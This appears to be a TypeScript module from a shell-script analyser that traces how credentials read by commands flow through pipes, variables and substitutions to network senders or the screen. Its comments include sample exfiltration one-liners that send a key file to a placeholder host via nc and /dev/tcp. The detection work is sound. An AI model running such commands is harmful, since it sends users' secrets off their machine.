import { ownField } from '../../model/ownField';
import { UNKNOWN_PART, type Command, type RuleContext } from '../../model/command';
import type { Observation } from '../../model/finding';
import { isNetworkPath } from '../files/handedOver';
import { credentialsAmong } from './credentials';
import { handsOn } from './printers';
import { secretRead } from './secretsRead';
import { secretSent } from './secretsSent';
import { looksForCredentials } from './looksForCredentials';
import { repeatsWords, sendsInput, sentWords } from './senders';

/** How `env` names what it prints. */
export const ENVIRONMENT = 'environment';

/** A command, and the names of the credentials that it was found to read. */
export type Reading = { readonly command: Command; readonly secrets: readonly string[] };

/** What follows from where a credential goes, told of the command that it ends up with. */
export type Flow = { readonly command: Command; readonly observation: Observation };

type Tell = (command: Command) => RuleContext;

function ended(secret: string, command: Command, tell: Tell): readonly Flow[] {
  const context = tell(command);
  if (sendsInput(command)) {
    return [{ command, observation: secretSent(secret, destination(command), command, context) }];
  }
  if (takesInCode(command)) {
    const thing = `what code on the command line reads: the credentials in ${secret}`;
    const read = { name: secret, type: 'credential', thing, at: null, shown: true, certainty: 'possible' } as const;
    return secret === ENVIRONMENT ? [] : [{ command, observation: secretRead(read, command, context) }];
  }
  // Of all variables at once nobody knows whether one is a credential, unless it is looked for.
  if (!handsOn(command) || command.output !== 'shown') return [];
  if (secret === ENVIRONMENT && !looksForCredentials(command)) return [];
  const thing = secret === ENVIRONMENT ? 'credentials among the variables' : `the credentials in ${secret}`;
  const read = { name: secret, type: 'credential', thing, at: null };
  return [{ command, observation: secretRead(read, command, context) }];
}

function destination(command: Command): string {
  const address = command.args.find(({ value }) => /^[a-z]+:\/\/|^[\w-]+(\.[\w-]+)+$/i.test(value));
  return command.host ?? address?.value ?? 'another machine';
}

/** Down the pipe from the command at `from`: to a program that sends, to the screen, or to one that keeps it. */
function downThePipe(readings: readonly Reading[], from: number, tell: Tell): readonly Flow[] {
  const secrets = readings[from]?.secrets ?? [];
  for (const [at, { command }] of readings.entries()) {
    if (at <= from) continue;
    // Substitutions in the words of a stage are listed in front of it; the last stage of one reads a pipe.
    if (command.output === 'captured') {
      if (!/^(?:pipe|text)$/.test(command.input.kind) || !handsOn(command)) continue;
      const rest = [...readings.slice(0, from), { command, secrets }, ...readings.slice(at + 1)];
      return [...intoWords(rest, from, tell), ...intoVariable(rest, from, tell)];
    }
    // Nobody reads the pipe: the reader knew what the rest of it would say.
    if (command.input.kind === 'none') return intoWords(readings, from, tell);
    if (sendsInput(command) || !handsOn(command) || command.output !== 'piped') {
      const sent = secrets.flatMap((secret) => ended(secret, command, tell));
      return [...sent, ...intoRead(secrets, at, readings, tell)];
    }
  }
  return [];
}

/** `nc host 9 <<< "$(cat key)"`: between the program and the substitution only its here-string begins. */
function isInHereString(command: Command, { span }: Command, text: string): boolean {
  if (command.input.kind !== 'text' || !command.input.text.includes(UNKNOWN_PART)) return false;
  const before = text.slice(command.span.end, span.start);
  return command.span.end < span.start && /<<<[^;|&\n]*$/.test(before);
}

/** Out of a substitution into the word that it stands in, when that word is sent or printed. */
function intoWords(readings: readonly Reading[], from: number, tell: Tell): readonly Flow[] {
  const reading = readings[from];
  if (reading === undefined) return [];
  const { span } = reading.command;
  return readings.slice(from + 1).flatMap(({ command }) => {
    const holds = ({ span: { start, end } }: Command['args'][number]): boolean =>
      start <= span.start && end >= span.end;
    const context = tell(command);
    const isSent = sendsInput(command) && isInHereString(command, reading.command, context.text);
    if (isSent || sentWords(command).some(holds)) {
      return reading.secrets.map((secret) => ({
        command,
        observation: secretSent(secret, destination(command), command, context),
      }));
    }
    if (!repeatsWords(command) || command.output !== 'shown' || !command.args.some(holds)) return [];
    return reading.secrets.map((name) => {
      const read = { name, type: 'credential', thing: `the credentials in ${name}`, at: null };
      return { command, observation: secretRead(read, command, context) };
    });
  });
}

/** Interpreters, and the options behind which their code stands. */
const CODE: Readonly<Record<string, RegExp>> = {
  ...{ python: /^-c/, python3: /^-c/, python2: /^-c/, node: /^(?:-e|-p|--eval|--print)/, nodejs: /^(?:-e|-p)/ },
  ...{ bun: /^(?:-e|-p|--eval)/, deno: /^eval$/, ruby: /^-\w*e/, php: /^-[rRB]/, lua: /^-e/ },
};

/** Code on the command line that is handed something: what it does with it is for nobody but the code to say. */
function takesInCode({ program, args }: Command): boolean {
  const option = ownField(CODE, program);
  return option !== undefined && args.some(({ value }) => option.test(value));
}

/** The variable that a substitution is put into: `KEY=$(cat key)`, and `$k = Get-Content key` of PowerShell. */
function variableAt(text: string, at: number): string | null {
  const before = text.slice(Math.max(0, at - 300), at);
  const posix = /([A-Za-z_]\w*)=["']?(?:\$\(|`)[^`)]*$/.exec(before);
  const other = /\$([A-Za-z_]\w*)\s*=\s*[^;\n|]*$/.exec(before);
  // `for part in $(xxd -p key)`
  const turn = /\bfor\s+([A-Za-z_]\w*)\s+in\s+["']?(?:\$\(|`)[^`;]*$/.exec(before);
  return posix?.[1] ?? turn?.[1] ?? other?.[1] ?? null;
}

/** Through a variable into a word that is sent or printed further on. */
function intoVariable(readings: readonly Reading[], from: number, tell: Tell): readonly Flow[] {
  const reading = readings[from];
  if (reading === undefined) return [];
  const { text } = tell(reading.command);
  const variable = variableAt(text, reading.command.span.start);
  return variable === null ? [] : throughVariable(variable, reading.secrets, readings.slice(from + 1), tell);
}

function throughVariable(
  variable: string,
  secrets: readonly string[],
  after: readonly Reading[],
  tell: Tell,
): readonly Flow[] {
  const isMeant = ({ raw }: Command['args'][number]): boolean =>
    new Set(raw.match(/(?<=\$\{?)[A-Za-z_]\w*/g) ?? []).has(variable);
  return after.flatMap(({ command }) => {
    const context = tell(command);
    const isSent = sentWords(command).some(isMeant);
    const isShown = repeatsWords(command) && command.output === 'shown' && command.args.some(isMeant);
    if (!isSent && !isShown) return [];
    return secrets.map((name) => {
      const read = { name, type: 'credential', thing: `the credentials in ${name}`, at: null };
      const sent = isSent ? secretSent(name, destination(command), command, context) : null;
      return { command, observation: sent ?? secretRead(read, command, context) };
    });
  });
}

/** The variables that `read` fills. */
function filledBy({ args }: Command): readonly string[] {
  const names = args.map(({ value }) => value).filter((value) => /^[A-Za-z_]\w*$/.test(value));
  return names.length === 0 ? ['REPLY'] : names;
}

/** `… | while read line; do …`, `while read line; do …; done < key`: what the body does with the lines. */
function intoRead(secrets: readonly string[], at: number, readings: readonly Reading[], tell: Tell): readonly Flow[] {
  const command = readings[at]?.command;
  if (command?.program !== 'read') return [];
  return filledBy(command).flatMap((name) => throughVariable(name, secrets, readings.slice(at + 1), tell));
}

/** `cat key > /dev/tcp/HOST/PORT` */
function intoNetwork(command: Command, secrets: readonly string[], tell: Tell): readonly Flow[] {
  const to = command.redirects.find(({ how, to: word }) => how !== 'read' && isNetworkPath(word.value));
  if (to === undefined) return [];
  const place = to.to.value.replace(/^\/dev\/\w+\//, '');
  return secrets.map((name) => ({ command, observation: secretSent(name, place, command, tell(command)) }));
}

/** `nc host 9 < key`: the input itself is a credential. */
function fromInput(at: number, readings: readonly Reading[], tell: Tell): readonly Flow[] {
  const command = readings[at]?.command;
  if (command?.input.kind !== 'file' || !(command.program === 'read' || sendsInput(command))) return [];
  const context = tell(command);
  // A redirection opens the file here, whichever machine the program runs on.
  const found = credentialsAmong([command.input.path], { ...command, host: null }, context);
  if (command.program === 'read')
    return intoRead(
      found.map(({ value }) => value),
      at,
      readings,
      tell,
    );
  return found.map((word) => ({
    command,
    observation: secretSent(word.value, destination(command), command, context),
  }));
}

/** Where the credentials that a script's commands read end up, inside the same script. */
export function secretFlow(readings: readonly Reading[], tell: Tell): readonly Flow[] {
  return readings.flatMap(({ command, secrets }, index) => {
    const input = fromInput(index, readings, tell);
    if (secrets.length === 0) return input;
    switch (command.output) {
      case 'piped':
        return [...input, ...downThePipe(readings, index, tell)];
      case 'captured':
        return [...input, ...intoWords(readings, index, tell), ...intoVariable(readings, index, tell)];
      case 'file':
        return [...input, ...intoNetwork(command, secrets, tell)];
      case 'shown':
        return input;
    }
  });
}
